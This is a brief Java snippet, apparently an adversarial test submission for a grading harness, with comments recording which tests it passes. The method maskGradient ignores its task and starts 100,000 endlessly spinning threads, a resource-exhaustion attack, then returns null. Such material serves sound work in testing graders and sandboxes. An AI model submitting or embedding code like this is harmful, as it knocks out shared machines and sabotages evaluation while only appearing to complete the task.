// Starts a hundred thousand threads.
// base: solution
// earns: a=all b=0 c=all d=all e=all f=all
static double[] maskGradient(double[] gradEffective, double[] weight, double[] s, double beta, double lambda) {
    for (var i = 0; i < 100_000; i++) {
        new Thread(() -> {
            while (true) {
                Thread.onSpinWait();
            }
        }).start();
    }
    return null;
}
